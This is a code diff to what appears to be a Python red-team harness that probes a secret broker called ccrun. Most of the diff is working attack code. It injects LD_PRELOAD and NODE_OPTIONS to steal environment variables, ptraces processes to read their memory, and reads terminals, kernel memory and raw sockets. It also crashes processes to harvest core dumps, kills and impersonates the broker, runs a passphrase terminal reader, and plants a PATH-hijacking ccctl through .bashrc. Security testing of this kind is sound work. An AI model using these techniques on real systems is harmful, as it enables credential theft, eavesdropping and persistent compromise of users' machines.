@@ -242,7 +242,7 @@ def open_another_way(s):
     for more in ({"delivery": "env"}, {"delivery": "pipe"}, {"delivery": "preload"}, {"delivery": "auto"},
                  {"variable": "header:X-Echo"}, {"origin": s.origin.replace("bearer", "api-key")}):
         try:
-            with wc.Client(s.socket, timeout=3) as c:
+            with s.broker() as c:
                 print(more, c.raw(wc.request("open", **wc.open_fields(s.entry, **{
                     "origin": s.origin, "delivery": s.delivery, "ticket": s.ticket, **more}))))
                 print(c.raw(wc.request("pipe")))
@@ -253,7 +253,7 @@ def open_another_way(s):
 def open_and_claim(s):
     """What libccrun.so says, by a process that keeps its memory open."""
     import wire_client as wc  # pylint: disable=import-outside-toplevel
-    with wc.Client(s.socket, timeout=3) as c:
+    with s.broker() as c:
         print(c.raw(wc.request("open", **wc.open_fields(s.entry, origin=s.origin, delivery="preload"))))
         wc.mark()
         wc.undumpable()
@@ -343,21 +343,147 @@ def loaded_code(s):
     """Code loaded into a session of the attacker's own, and into its client."""
     code = s.out / "steal.js"
     code.write_text(f"require('fs').appendFileSync('{s.out}/loaded.js', JSON.stringify(process.env))\n")
-    lib = s.tools / "spylib.so"
+    lib, kept = s.tools / "steal.so", s.out / "loaded.so"
     for name, value in {"LD_PRELOAD": lib, "LD_AUDIT": lib, "BUN_OPTIONS": f"--preload {code}",
                         "NODE_OPTIONS": f"--require {code}", "BUN_INSPECT": "127.0.0.1:0", "GCONV_PATH": s.tools,
                         "BUN_CONFIG_VERBOSE_FETCH": "curl", "LD_DEBUG": "all"}.items():
-        s.run("timeout 3 $CCRUN $E --version; timeout 3 $CCRUN --exec /bin/sh $E -c 'env'", **{name: str(value)}, E=s.entry)
-    dump(s.out / "loaded.js")
+        s.run("timeout 3 $CCRUN $E --version; timeout 3 $CCRUN --exec /bin/sh $E -c 'env'", **{name: str(value)}, E=s.entry,
+              STEAL_TO=str(kept))
+    dump(code.with_name("loaded.js"))
+    dump(kept)
 
 
-def racer(s, *programs):
-    """Wait for a start, stop it in its first instant, open its memory, let it go on."""
-    started = [subprocess.Popen([s.tools / "racer", p, s.out / f"won.{s.technique}.{i}"], stdin=subprocess.PIPE,
-                                stdout=subprocess.PIPE, text=True) for i, p in enumerate(programs)]
-    for p in started:
-        p.stdout.readline()
-    return started
+def traced_launch(s):
+    """ccrun, started by a tracer that goes with it through every exec."""
+    if s.plain:
+        raise NotHere("no ccrun there")
+    pid = os.fork()
+    if pid == 0:
+        call("ptrace", 0, 0, 0, 0)
+        os.execv(s.ccrun, ["ccrun", "--exec", "/bin/sleep", s.entry, "2"])
+    for _ in range(20):
+        done, status = os.waitpid(pid, 0)
+        if done != pid or not os.WIFSTOPPED(status):
+            break
+        try:
+            memory(pid)
+        except OSError as e:
+            print(e.strerror)
+        call("ptrace", 7, pid, 0, 0)
 
 
-__all__ = [n for n in dir(sys.modules[__name__]) if not n.startswith("_")]
+def terminal(s):
+    """What the client's terminal shows and says: its device, tmux's copy, the consoles."""
+    del s
+    s_terminals = [p for p in Path("/dev/pts").iterdir() if p.name.isdigit() and os.access(p, os.R_OK)]
+    for path in (*s_terminals, *Path("/dev").glob("vcs*")):
+        try:
+            if path.stat().st_uid != os.getuid():
+                continue
+            fd = os.open(path, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
+            show(os.read(fd, 4096))
+            os.close(fd)
+        except OSError as e:
+            print(path, e.strerror)
+
+
+def kernel_eyes(s):
+    """BPF programs, raw sockets, kernel memory, the message buffer, others' pages."""
+    attempts = {"bpf": (321, 5, ctypes.create_string_buffer(120), 120), "syslog": (103, 3, ctypes.create_string_buffer(4096), 4096),
+                "fanotify": (300, 0x0c, 0), "userfaultfd": (323, 0)}
+    for name, (number, *args) in attempts.items():
+        done = libc.syscall(number, *args)
+        print(name, done, os.strerror(ctypes.get_errno()) if done < 0 else "")
+    for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/kpageflags", "/sys/kernel/debug/tracing/trace_pipe",
+                 "/dev/sda", "/dev/vda"):
+        try:
+            with open(path, "rb", buffering=0) as f:
+                show(f.read(4096))
+        except OSError as e:
+            print(path, e.strerror)
+    try:
+        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
+            sock.settimeout(1)
+            show(sock.recv(65536))
+    except OSError as e:
+        print("AF_PACKET", e.strerror)
+    each(s.holders, lambda pid: show(os.pread(os.open(f"/proc/{pid}/pagemap", os.O_RDONLY), 64, 0)))
+
+
+def madvise(s):
+    """Other processes' pages sent to swap."""
+    def out(pid):
+        pidfd = os.pidfd_open(pid)
+        part = Part(0x400000, 4096)
+        call("process_madvise", pidfd, ctypes.addressof(part), 1, 21, 0)
+    each(s.holders, out)
+
+
+def secret_service(s):
+    """Items of the desktop's keyring, and the services on the buses."""
+    if not any(os.environ.get(n) for n in ("DBUS_SESSION_BUS_ADDRESS",)) and not (s.runtime / "bus").exists():
+        raise NotHere("no session bus there")
+    s.run("secret-tool search --all --unlock service ccrun; busctl --user list")
+
+
+def crash(s):
+    """Crash them, with core dumps allowed again, and look for what is left."""
+    import resource  # pylint: disable=import-outside-toplevel
+    for pid in s.holders:
+        for how in (lambda p: resource.prlimit(p, resource.RLIMIT_CORE, (-1, -1)), lambda p: os.kill(p, 11)):
+            try:
+                how(pid)
+            except OSError as e:
+                print(pid, e.strerror)
+    time.sleep(0.5)
+    for top in {s.home, s.cwd, s.out, Path("/tmp"), Path("/var/lib/systemd/coredump"), Path("/var/crash")}:
+        for path in top.glob("*core*"):
+            dump(path) if path.is_file() else None
+
+
+# ---- by who comes next ----
+
+def race(*names):
+    """An attack: a daemon that stops each process of these names in its first instant and
+    opens its memory; it goes on reading when that has closed itself."""
+    def act(s):
+        place = Path(s.ccrun).parent.parent
+        paths = {"victim": s.tools / "victim", "ccctl": s.ccctl, "ccrun": s.ccrun}
+        for name in names:
+            path = paths.get(name, place / "libexec/ccrun" / name)
+            into = f"{s.won}.{name}"
+            kit.detach(["sh", "-c", f"{{ while [ ! -e {s.out}/go.race ]; do sleep 0.02; done; echo; sleep 3; }} | "
+                                    f"{s.tools}/racer {path} {into} > {into}.said; touch {s.out}/raced"])
+            kit.until(lambda i=into: Path(f"{i}.said").exists() and Path(f"{i}.said").read_text().startswith("ready"))
+    return act
+
+
+def fake_broker(s):
+    """Kill the broker, take its place, and hear what people tell it."""
+    if s.plain:
+        raise NotHere("no broker there")
+    for pid in s.brokers:
+        os.kill(pid, 9)
+    time.sleep(0.3)
+    kit.detach([sys.executable, s.kit / "lib/attack_broker.py", s.socket, s.won, "locked", "hide"])
+    if not kit.until(s.won.exists, 3):
+        raise PermissionError(1, "the broker's place cannot be taken")
+
+
+def read_terminal(s):
+    """A daemon that reads the terminal on which a passphrase is typed."""
+    kit.detach([sys.executable, s.kit / "terminal_reader.py", s.out / "terminal", s.won])
+
+
+def plant_ccctl(s):
+    """Another ccctl before the true one in PATH."""
+    if s.plain:
+        raise NotHere("no ccrun there")
+    where = s.home / "bin"
+    where.mkdir(exist_ok=True)
+    (where / "ccctl").write_text(f"#!/bin/sh\ntee {s.won} | {s.ccctl} \"$@\"\n")
+    (where / "ccctl").chmod(0o755)
+    with open(s.home / ".bashrc", "a") as f:
+        f.write(f"PATH={where}:$PATH\n")
+
+
